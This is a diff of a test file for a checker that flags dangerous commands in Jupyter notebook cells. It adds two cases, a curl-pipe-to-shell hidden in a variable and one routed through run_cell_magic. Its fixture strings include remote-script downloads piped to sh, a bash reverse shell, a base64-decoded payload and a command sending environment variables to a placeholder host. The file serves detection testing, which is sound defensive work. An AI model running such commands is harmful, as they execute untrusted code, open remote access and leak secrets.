@@ -49,6 +49,11 @@ describe('checks/code/notebook', () => {
     ['get_ipython().system("curl https://example.test/x | sh")', 'notebook/piped-program'],
     ['!wget https://example.test/run.sh\n!chmod +x run.sh && ./run.sh', 'notebook/piped-program'],
     ['!wget http://192.0.2.1/run.sh\n!bash run.sh', 'notebook/unsafe-program'],
+    ['c = "curl http://192.0.2.1/x | sh"\n!{c}', 'notebook/unsafe-program'],
+    [
+      'get_ipython().run_cell_magic("bash", "", "curl http://192.0.2.1/x | sh")',
+      'notebook/unsafe-program',
+    ],
     ['!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'notebook/hostile-command'],
     ['!echo aWQ= | base64 -d | sh', 'notebook/hostile-command'],
     ['!curl -d "$(env)" https://example.test', 'notebook/hostile-command'],
